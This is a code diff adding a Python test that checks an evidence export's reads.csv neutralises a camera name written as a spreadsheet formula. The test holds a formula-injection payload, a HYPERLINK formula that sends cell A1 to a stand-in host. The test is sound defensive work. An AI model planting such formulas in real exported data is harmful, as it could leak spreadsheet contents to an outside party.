@@ -69,3 +69,17 @@ def test_packages_of_hidden_holds_are_404(client, request_hold, boss, detective,
     client.force_login(make_user(Role.INVESTIGATOR, agency=agency))
     assert client.get(reverse("holds:export_download", args=[hold.pk, export.pk])).status_code == 404
     assert not AccessLog.objects.filter(action="holds.export.download").exists()
+
+
+def test_finding_4_a_camera_named_like_a_formula_is_text_in_the_evidence_csv(request_hold, detective, boss, camera):
+    """R-SHR-8: the evidence package's reads.csv goes through the one CSV writer."""
+    from apps.reads.models import Camera
+
+    formula = '=HYPERLINK("http://x"&A1,"Click")'
+    Camera.objects.filter(pk=camera.pk).update(name=formula)
+    hold = hold_approve(actor=boss, hold=request_hold())
+    export = evidence_export_build(export_id=evidence_export_request(actor=detective, hold=hold).pk, actor=detective)
+    with export.file.open("rb") as handle:
+        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
+    rows = list(csv.DictReader(io.StringIO(archive.read("reads.csv").decode())))
+    assert rows and {row["camera"] for row in rows} == {"'" + formula}
